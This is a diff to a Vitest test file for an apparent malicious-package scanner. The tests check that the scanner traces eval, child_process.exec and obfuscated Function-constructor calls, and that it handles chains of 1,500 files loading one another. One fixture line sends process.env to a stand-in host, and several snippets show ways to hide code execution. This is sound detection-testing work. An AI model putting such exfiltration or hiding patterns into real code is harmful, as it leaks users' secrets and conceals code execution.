@@ -1,8 +1,11 @@
-import { expect, test } from 'vitest';
+import { describe, expect, test } from 'vitest';
+import { rules } from '../rules/index.js';
 import { parse } from '../src/parse/parse.js';
+import { readMemory } from '../src/read/memory.js';
 import { makeEvaluator } from '../src/resolve/evaluate.js';
 import { makeUnit } from '../src/resolve/unit.js';
 import { factsOf } from '../src/run/context.js';
+import { analyse } from '../src/run/package.js';
 
 /** Names of the calls in a text: those that names reach, or all. */
 function names(text: string, everyCall = false): readonly string[] {
@@ -45,6 +48,14 @@ test.each([
     `const e = require('util').promisify(require('child_process').exec); e(x)`,
     'child_process.exec',
   ],
+  ['all values of an object', `const o = { a: eval }; Object.values(o)[0](x)`, 'eval'],
+  [
+    'a key of a function',
+    `const k = ['con', 'structor'].join(''); const f = () => {}; const g = f[k]; g(x)`,
+    'Function',
+  ],
+  ['a key in a list', `const t = ['constructor']; function f() {} f[t[0]](x)`, 'Function'],
+  ['a constructor taken apart', `const { constructor: make } = () => {}; make(x)`, 'Function'],
 ])('a name reaches a call by way of %s', (_, text, name) => {
   expect(names(text, true)).toContain(name);
   expect(names(text)).toContain(name);
@@ -55,8 +66,32 @@ test('what no name reaches is not asked for one', () => {
   expect(names(text)).toEqual([]);
 });
 
-test('a helper that a name gets into does not carry it everywhere', () => {
-  const steps = Array.from({ length: 12 }, (_, at) => `function f${at}(x) { return f${at + 1}(x); }`).join('\n');
-  const text = `${steps}\nfunction f12(x) { return x; }\nf0(require('fs'));\nf0(1).exec();`;
+test.each([6, 12, 30])('a name is followed through %i functions', count => {
+  const steps = Array.from({ length: count }, (_, at) => `function f${at}(x) { return f${at + 1}(x); }`).join('\n');
+  expect(names(`${steps}\nfunction f${count}(x) { x.exec(y); }\nf0(require('child_process'));`)).toContain(
+    'child_process.exec',
+  );
+});
+
+test('a helper of a library that a name gets into does not carry it everywhere', () => {
+  const steps = Array.from({ length: 600 }, (_, at) => `function f${at}(x) { return f${at + 1}(x) || x; }`).join('\n');
+  const text = `${steps}\nfunction f600(x) { return x; }\nf0(require('fs'));\nf500(1).exec();`;
   expect(names(text)).not.toContain('fs.exec');
+});
+
+describe('a thousand files that load one another take no more stack than two', () => {
+  const thief = `fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(process.env) });`;
+
+  test.each([
+    ['a chain', (at: number) => `module.exports = require('./${at + 1}');`, `module.exports = 1;`],
+    ['a ring', (at: number) => `module.exports = require('./${at + 1}');`, `module.exports = require('./0');`],
+    ['a chain of modules', (at: number) => `export * from './${at + 1}.js';`, `export const x = 1;`],
+    ['a ring of modules', (at: number) => `export * from './${at + 1}.js';`, `export { x } from './0.js';`],
+  ])('%s', async (_, file, last) => {
+    const entries = Array.from({ length: 1_500 }, (_, at) => [`${at}.js`, file(at)] as const);
+    const files = { ...Object.fromEntries(entries), '1500.js': last, 'index.js': `import './0.js'; ${thief}` };
+    const { findings, coverage } = analyse(await readMemory({ files }), rules);
+    expect(coverage.skipped.filter(({ path }) => path !== 'package.json')).toEqual([]);
+    expect(findings.map(({ rule }) => rule)).toContain('sends-environment');
+  });
 });
